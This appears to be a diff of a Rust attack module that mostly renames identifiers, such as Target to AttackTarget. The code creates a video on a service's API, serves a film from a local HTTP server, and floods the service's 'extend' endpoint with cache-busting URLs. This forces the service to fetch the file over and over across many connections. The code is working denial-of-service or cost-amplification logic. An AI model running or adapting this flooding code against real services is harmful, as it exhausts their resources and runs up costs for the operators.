@@ -9,7 +9,7 @@ use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpListener;
 
 use super::connections::post;
-use super::{SOURCE, Target, flood};
+use super::{AttackTarget, SOURCE, flood};
 use crate::http::request;
 
 const CONNECTIONS: usize = 4;
@@ -22,16 +22,16 @@ const GROUP: usize = 24;
 const GROUPS: usize = 300;
 
 /// Repeatedly submits a film to be extended. The service fetches it from this process, as from any other server.
-pub async fn extend(target: &Rc<Target>) {
-    let Some(own) = own_video(target).await else { return };
+pub async fn extend(target: &Rc<AttackTarget>) {
+    let Some(video_id) = own_video(target).await else { return };
     let url = serve(film()).await;
     let token = target.account.token.clone();
-    flood(target, CONNECTIONS, move |turn| {
+    flood(target, CONNECTIONS, move |iteration| {
         let body = json!({
             "model": "vq2-turbo",
-            "video_creation_id": own,
+            "video_creation_id": video_id,
             // A new name each time, so that no cache can know the file.
-            "video_url": format!("{url}/{turn}.mp4"),
+            "video_url": format!("{url}/{iteration}.mp4"),
             "duration": 1,
             "resolution": "540p",
         });
@@ -41,15 +41,15 @@ pub async fn extend(target: &Rc<Target>) {
 
 /// Creates a short video, because only callers with a video may extend one, and returns its id. `None` if it was
 /// rejected.
-async fn own_video(target: &Target) -> Option<String> {
+async fn own_video(target: &AttackTarget) -> Option<String> {
     let body = json!({"prompt": "hills", "model": "vq2-turbo", "duration": 1, "resolution": "540p"});
     let task = post(target, "/proxy/videovendor/start-end2video", &body).await?;
     let path = format!("/proxy/videovendor/tasks/{}/creations", task["task_id"].as_str()?);
     let started = Instant::now();
     while started.elapsed() < OWN_VIDEO {
         let mut connection = target.connect().await?;
-        let answer = connection.try_exchange(&request("GET", &path, &target.account.token, "")).await.ok()?;
-        let creations: Value = serde_json::from_slice(answer.body).ok()?;
+        let response = connection.try_exchange(&request("GET", &path, &target.account.token, "")).await.ok()?;
+        let creations: Value = serde_json::from_slice(response.body).ok()?;
         if let Some(id) = creations["creations"][0]["id"].as_str() {
             return Some(id.to_owned());
         }
@@ -76,14 +76,14 @@ async fn serve(file: Vec<u8>) -> String {
         "HTTP/1.1 200 OK\r\ncontent-type: video/mp4\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
         file.len()
     );
-    let answer: Rc<[u8]> = [head.as_bytes(), &file].concat().into();
+    let file_response: Rc<[u8]> = [head.as_bytes(), &file].concat().into();
     tokio::task::spawn_local(async move {
         while let Ok((mut stream, _)) = listener.accept().await {
-            let answer = answer.clone();
+            let file_response = file_response.clone();
             tokio::task::spawn_local(async move {
                 let mut head = [0; 4096];
                 let _ = stream.read(&mut head).await;
-                let _ = stream.write_all(&answer).await;
+                let _ = stream.write_all(&file_response).await;
             });
         }
     });
